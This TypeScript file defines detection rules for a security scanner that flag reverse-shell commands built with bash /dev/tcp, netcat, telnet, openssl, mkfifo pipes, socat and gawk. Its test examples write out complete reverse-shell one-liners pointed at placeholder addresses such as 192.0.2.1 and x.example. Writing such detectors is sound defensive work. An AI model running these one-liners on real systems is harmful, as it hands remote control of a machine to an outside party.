import type { Rule, RuleMatch } from '../../rule.ts';
import { expression } from '../boundary.ts';
import { GAP, WORD_START } from '../shell_syntax.ts';
import { REVERSE_SHELL } from './format.ts';

const SHELL_PATH = `(?:[/A-Za-z]{0,24}/)?(?:ba|z|da|k|a)?sh(?![A-Za-z0-9_-])`;
const NETCAT = String.raw`(?:nc|ncat|netcat|nc\.traditional|nc\.openbsd)(?:\.exe)?`;

/** A port check also opens /dev/tcp; a shell that is wired to it reads from it or writes to it. */
function wiresShell({ text, before, after }: RuleMatch): boolean {
  const around = before + text + after;
  // `(echo > /dev/tcp/db/5432) >/dev/null 2>&1`: whatever it asks, no shell is at its end.
  if (/(?:echo|printf|:|true)[ \t]{0,4}>[ \t]{0,4}$/.test(before)) return false;
  if (LEFT_OPEN.test(text) || (HERE.test(text) && !/sh[ \t]{1,4}-\w{0,3}i/.test(around))) return false;
  return (
    /(?:ba|z|da|k)?sh[ \t]{1,4}-[a-z]{0,3}i|[0-9]?[<>]&[ \t]{0,2}[0-9]|exec[ \t]{1,4}[0-9]{1,3}<>|&>|>&/.test(
      around,
    ) && /sh\b|exec|while|cat|read/.test(around)
  );
}

/** `/dev/tcp/ATTACKER_IP/PORT`: what a manual leaves open connects nowhere. */
const LEFT_OPEN =
  /\/dev\/(?:tcp|udp)\/(?:[A-Z]{2,10}(?:[_-][A-Z]{2,8}){0,3}|x{1,3}\.x{1,3}[\w.]{0,8}|host|ip)\//;
/** Asking whether a port of this machine or its network answers sends nothing to anybody. */
const NEAR = /\/dev\/tcp\/(?:10\.[\d.]{5,11}|192\.168\.[\d.]{3,7}|[a-z][\w-]{0,40})\//i;
const HERE = /\/dev\/(?:tcp|udp)\/(?:localhost|127\.[\d.]{5,11}|\[?::1\]?|0\.0\.0\.0)\//i;

const DEV_TCP = String.raw`/dev/(?:tcp|udp)/[A-Za-z0-9.$\[\]:\{\}_-]{1,80}/[0-9$\{A-Za-z]{1,24}`;

/** `(echo > /dev/tcp/db/5432)`, `timeout 1 bash -c '</dev/tcp/localhost/80'`. */
function isProbe({ text, before, after }: RuleMatch): boolean {
  return (
    HERE.test(text) ||
    (NEAR.test(text) &&
      (text.startsWith('<') || /(?:echo|printf|:|true)[^\r\n|;&]{0,12}$/.test(before)) &&
      !after.includes('|'))
  );
}

/** Reverse shells made of programs. */
export const REVERSE_SHELL_TOOL_RULES: readonly Rule[] = [
  {
    ...REVERSE_SHELL,
    id: 'dev_tcp_reverse_shell',
    keywords: ['/dev/tcp/', '/dev/udp/'],
    expression: new RegExp(DEV_TCP, 'gi'),
    reach: { before: 0, after: 120 },
    validate: wiresShell,
    describes: "A shell wired to a network connection by bash's /dev/tcp.",
    get finds() {
      return [
        'bash -i >& /dev/tcp/192.0.2.1/4444 0>&1',
        '0<&196;exec 196<>/dev/tcp/192.0.2.1/9001; sh <&196 >&196 2>&196',
        'exec 5<>/dev/tcp/x.example/443;cat <&5 | while read l; do $l 2>&5 >&5; done',
        'sh -i >& /dev/udp/$H/$P 0>&1',
      ];
    },
    get ignores() {
      return ['(echo > /dev/tcp/db/5432) 2>/dev/null', 'bash supports /dev/tcp/host/port', 'ls /dev/tcp'];
    },
  },
  {
    ...REVERSE_SHELL,
    id: 'dev_tcp_connection',
    severity: 'medium',
    confidence: 'low',
    keywords: ['/dev/tcp/', '/dev/udp/'],
    expression: expression('gi', String.raw`[<>][ \t]{0,4}\\{0,2}["']?`, DEV_TCP),
    reach: { before: 8, after: 120 },
    validate: (match) => !wiresShell(match) && !LEFT_OPEN.test(match.text) && !isProbe(match),
    describes: "A network connection opened by bash's /dev/tcp.",
    get finds() {
      return [
        '(echo > /dev/tcp/db.example/5432)',
        'cat notes.txt >/dev/tcp/192.0.2.1/80',
        'timeout 1 cat < /dev/tcp/x.example/22',
      ];
    },
    get ignores() {
      return [
        'bash -i >& /dev/tcp/192.0.2.1/4444 0>&1',
        'see /dev/tcp/host/port',
        '>/dev/null',
        '(echo > /dev/tcp/localhost/5432) && echo up',
        '# bash -i >& /dev/tcp/ATTACKER_IP/PORT 0>&1',
      ];
    },
  },
  {
    ...REVERSE_SHELL,
    id: 'netcat_exec_shell',
    keywords: [
      'e /bin/',
      'c /bin/',
      'e /usr/',
      'c /usr/',
      'e bash',
      'c bash',
      '-e sh',
      '-c sh',
      '-e zsh',
      '-e cmd',
      '-c cmd',
      '-e powershell',
      '-e "',
      "-e '",
      '-e $',
      'exec /bin',
      'exec bash',
      'exec sh',
      'exec "',
      'exec=',
      'e=/bin',
      '-e=sh',
      '-c=sh',
      '-e=bash',
      '-c=bash',
      '-e=/',
      '-c=/',
    ],
    expression: expression(
      'gi',
      WORD_START,
      NETCAT,
      GAP,
      String.raw`[^\r\n|;]{0,100}?-{1,2}(?:[a-z0-9]{0,6}[ec]|exec|sh-exec)(?:[ \t]{1,4}|=)\\{0,2}["']?`,
      String.raw`(?:${SHELL_PATH}|cmd(?:\.exe)?\b|powershell(?:\.exe)?\b|\$SHELL\b)`,
      String.raw`[^\r\n;|]{0,60}`,
    ),
    reach: { before: 180, after: 110 },
    describes: 'Netcat that hands a shell to the other end.',
    get finds() {
      return [
        'nc -e /bin/sh 192.0.2.1 4444',
        'ncat 192.0.2.1 4444 -e /bin/bash',
        'nc -nve bash 192.0.2.1 9',
        'ncat --exec /bin/sh x.example 99',
        'nc.exe 192.0.2.1 4444 -e cmd.exe',
      ];
    },
    get ignores() {
      return ['nc -zv host 22', 'rsync -e ssh a b', 'nc -l 8080 -c', 'sync -e /bin/sh'];
    },
  },
  {
    ...REVERSE_SHELL,
    id: 'netcat_piped_shell',
    keywords: [
      's_client',
      'telnet',
      'netcat',
      'ncat ',
      '| sh',
      '|sh',
      '| bash',
      '|bash',
      '| zsh',
      '|zsh',
      '| dash',
      '|dash',
      '| ash',
      '|ash',
      '| ksh',
      '|ksh',
      '| /bin/',
      '|/bin/',
      '| nc',
      '|nc',
      '|/sh',
      '| /sh',
      '|/usr/',
      '| /usr/',
    ],
    expression: expression(
      'gi',
      '(?:',
      `${WORD_START}(?:${NETCAT}|telnet)${GAP}(?:-[a-z]{1,6}[ \\t]{1,4})?[A-Za-z0-9.:$_-]{2,80}[ \\t]{1,4}[0-9$][A-Za-z0-9]{0,8}[^\\r\\n|;]{0,40}\\|[ \\t]{0,4}${SHELL_PATH}`,
      `|${WORD_START}${SHELL_PATH}[^\\r\\n|;]{0,40}\\|[ \\t]{0,4}(?:${NETCAT}|telnet)${GAP}[A-Za-z0-9.:$_-]{2,80}[ \\t]{1,4}[0-9$][A-Za-z0-9]{0,8}`,
      `|${WORD_START}openssl[ \\t]{1,4}s_client[^\\r\\n|;]{1,120}\\|[ \\t]{0,4}${SHELL_PATH}`,
      ')',
    ),
    reach: { before: 220, after: 230 },
    describes: 'A network connection that is piped through a shell.',
    get finds() {
      return [
        'nc 192.0.2.1 4444 | /bin/sh | nc 192.0.2.1 4445',
        'telnet 192.0.2.1 4444 | /bin/bash | telnet 192.0.2.1 4445',
        'nc -lvp 4444 | bash',
        'openssl s_client -quiet -connect 192.0.2.1:443 | /bin/bash | openssl s_client -connect 192.0.2.1:444',
        '/bin/sh -i 2>&1 | nc x.example 9001 > /tmp/p',
      ];
    },
    get ignores() {
      return ['nc -z host 22 | tee log', 'echo hi | nc host 9000', 'telnet is old | sh is older'];
    },
  },
  {
    ...REVERSE_SHELL,
    id: 'fifo_reverse_shell',
    keywords: ['mkfifo', 'mknod'],
    expression: expression(
      'gi',
      WORD_START,
      String.raw`(?:mkfifo|mknod)[ \t]{1,4}[^\s;&|]{1,60}(?=[\s;&|])[^\r\n]{1,200}?(?:\bnc\b|ncat|netcat|telnet|s_client|socat)[^\r\n]{0,160}`,
    ),
    reach: { before: 0, after: 450 },
    validate: ({ text }) => /(?<![A-Za-z0-9_.-])(?:ba|z|da|k)?sh(?![A-Za-z0-9_.-])/.test(text),
    describes: 'A shell wired to a network connection by a named pipe.',
    get finds() {
      return [
        'rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|sh -i 2>&1|nc 192.0.2.1 4444 >/tmp/f',
        'mkfifo /tmp/s; /bin/sh -i < /tmp/s 2>&1 | openssl s_client -quiet -connect 192.0.2.1:443 > /tmp/s',
        'mknod /tmp/b p; telnet 192.0.2.1 99 0</tmp/b | /bin/bash 1>/tmp/b',
      ];
    },
    get ignores() {
      return ['mkfifo /tmp/pipe', 'mkfifo p; nc -l 80 > p', 'mknod /dev/null c 1 3'];
    },
  },
  {
    ...REVERSE_SHELL,
    id: 'socat_exec_shell',
    keywords: ['socat'],
    expression: expression(
      'gi',
      WORD_START,
      String.raw`socat\b[^\r\n]{1,200}?(?:exec|system):\\{0,2}["']?`,
      String.raw`(?:${SHELL_PATH}|cmd|powershell|login)[^\r\n;|]{0,120}`,
    ),
    reach: { before: 0, after: 370 },
    validate: ({ text }) => /(?:tcp|udp|openssl|sctp|socks)[46]?(?:-|:|_|l)/i.test(text),
    describes: 'A shell that socat connects to the network.',
    get finds() {
      return [
        "socat exec:'bash -li',pty,stderr,setsid,sigint,sane tcp:192.0.2.1:4444",
        'socat TCP:x.example:99 EXEC:/bin/sh',
        'socat openssl-connect:192.0.2.1:443,verify=0 exec:/bin/bash,pty',
      ];
    },
    get ignores() {
      return ['socat TCP-LISTEN:80,fork TCP:web:8080', 'socat is like netcat', 'socat - EXEC:/bin/sh'];
    },
  },
  {
    ...REVERSE_SHELL,
    id: 'awk_reverse_shell',
    keywords: ['/inet/tcp/', '/inet/udp/', '/inet4/tcp/'],
    expression: /\/inet4?\/(?:tcp|udp)\/[0-9]{1,5}\/[^\s"'/]{1,80}\/[^\s"'/]{1,12}[^\r\n]{0,200}/gi,
    reach: { before: 0, after: 320 },
    validate: ({ text, after }) => /\|&|getline|while/.test(text + after),
    describes: 'A shell that awk connects to the network.',
    get finds() {
      return [
        `awk 'BEGIN {s = "/inet/tcp/0/192.0.2.1/4444"; while(42) { do{ printf "> " |& s; s |& getline c; } } }'`,
        `gawk 'BEGIN{s="/inet/tcp/0/x.example/99";while(1){s|&getline c;while(c|getline)print|&s}}'`,
        'awk \'BEGIN{s="/inet/udp/0/192.0.2.1/53"; s |& getline x; system(x)}\'',
      ];
    },
    get ignores() {
      return ['/inet/tcp/0/host/80', 'gawk supports /inet/tcp/', 'cat /inet/tcp/0/a/1'];
    },
  },
];
